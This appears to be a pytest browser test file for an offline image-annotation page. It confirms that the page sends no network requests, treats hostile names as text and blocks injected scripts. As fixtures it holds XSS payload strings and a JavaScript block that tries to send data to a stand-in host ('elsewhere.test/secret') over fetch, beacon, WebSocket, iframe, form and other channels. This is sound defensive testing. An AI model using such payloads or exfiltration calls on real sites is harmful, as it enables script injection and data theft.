"""The page sends nothing, runs nothing but its own program, and takes names as text."""

import contextlib
import re
import socket
import threading

import numpy as np
import pytest

from samcarry.annotate.cases import write_annotator
from samcarry.formats.page_file import read_page_file
from support.browser import Annotator, launch, needs_browser, open_page

pytestmark = needs_browser
HOSTILE = [
    "<img src=x onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    '"><svg onload=window.hacked=1>',
    "{{7*7}} ${7*7} &lt;b&gt; 'quoted' &amp;",
    "<!--<script>",
    "__proto__",
]
# Names that a class may have.
HOSTILE_CLASSES = ["' onmouseover='window.hacked=1", '" onload="window.hacked=1', "&lt", "__proto__"]


# Chromium asks its maker for new versions and the like, whatever page is open.
OWN_UPDATES = re.compile(rb"(CONNECT|GET|POST|HEAD) (http://)?[a-z.]+\.google(apis)?\.com[:/]")


class RecordingProxy:
    """A proxy that answers nothing and keeps the first line of each request."""

    def __init__(self):
        self.requests = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    @property
    def address(self):
        return f"http://127.0.0.1:{self.server.getsockname()[1]}"

    def serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            connection.settimeout(1)  # a browser may connect before it has anything to say
            with connection, contextlib.suppress(TimeoutError):
                if line := connection.recv(4096).split(b"\r\n")[0]:
                    self.requests.append(line)

    def close(self):
        self.server.shutdown(socket.SHUT_RDWR)
        self.server.close()
        self.thread.join(5)


ATTEMPTS = """async () => {
    const address = "http://elsewhere.test/secret";
    const tried = [];
    const attempt = (name, run) => { tried.push(name); try { return run(); } catch { return null; } };
    await attempt("fetch", () => fetch(address).catch(() => null));
    attempt("image", () => { new Image().src = address; });
    attempt("beacon", () => navigator.sendBeacon(address, "x"));
    attempt("socket", () => new WebSocket("ws://elsewhere.test/"));
    attempt("events", () => new EventSource(address));
    attempt("worker", () => new Worker(address));
    attempt("frame", () => {
        const frame = document.createElement("iframe");
        frame.src = address;
        document.body.append(frame);
    });
    attempt("style", () => {
        const link = document.createElement("link");
        link.rel = "stylesheet";
        link.href = address;
        document.head.append(link);
    });
    attempt("script", () => {
        const script = document.createElement("script");
        script.src = address;
        document.head.append(script);
    });
    attempt("form", () => {
        const form = document.createElement("form");
        form.action = address;
        form.target = "_blank";
        document.body.append(form);
        form.submit();
    });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return tried.length;
}"""


def test_no_request_leaves_the_browser(playwright, page_file, trained, image_files, tmp_path):
    """Neither while somebody works, nor when the page itself tries to send something."""
    proxy = RecordingProxy()
    browser = launch(playwright, proxy={"server": proxy.address})
    try:
        annotator = Annotator(open_page(browser, page_file))
        annotator.waiting_for_sam(annotator.click, 45, 60)
        annotator.finish()
        annotator.save(tmp_path)
        model = open_page(browser, trained[1])
        model.set_input_files("#file", image_files[0])
        model.wait_for_selector("html[data-answers]")
        for page in (annotator.page, model):
            assert page.evaluate(ATTEMPTS) == 10
        assert [line for line in proxy.requests if not OWN_UPDATES.match(line)] == []
        # The proxy would have seen a request.
        browser.new_page().evaluate("fetch('http://elsewhere.test/').catch(() => null)")
        assert any(b"elsewhere" in line for line in proxy.requests)
    finally:
        browser.close()
        proxy.close()


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory, study, tiny):
    path = tmp_path_factory.mktemp("hostile") / "annotate.html"
    cases = [f"{name}{number}" for number, name in enumerate(HOSTILE)]
    write_annotator(
        path,
        cases,
        dict.fromkeys(cases, study / "images/c.png"),
        {},
        dataset=HOSTILE[1],
        task=HOSTILE[0],
        classes=HOSTILE_CLASSES,
        sam=tiny,
        window=None,
        text_masked=False,
        precision="float32",
    )
    return path


def test_hostile_names_are_text(browser, hostile_page, tmp_path):
    context = browser.new_context(accept_downloads=True)
    annotator = Annotator(open_page(context, hostile_page))
    page = annotator.page
    assert page.locator(".class .name").all_inner_texts() == HOSTILE_CLASSES
    page.press("body", "b")
    annotator.drag((20, 20), (60, 60))
    annotator.press("f")
    page.click("#confirm-rest")
    path = annotator.save(tmp_path, '<b>who</b> & "co"\u0001')
    assert page.evaluate("window.hacked") is None
    record = read_page_file(path)
    assert record.annotator == '<b>who</b> & "co" '
    assert record.dataset == HOSTILE[1]
    assert record.images[f"{HOSTILE[0]}0.png"].absent == tuple(HOSTILE_CLASSES[1:])
    context.close()


def test_only_the_pages_own_program_may_run(browser, hostile_page):
    context = browser.new_context()
    page = open_page(context, hostile_page)
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = 1";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 1'>");
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert np.isfinite(page.evaluate("performance.now()"))
    context.close()
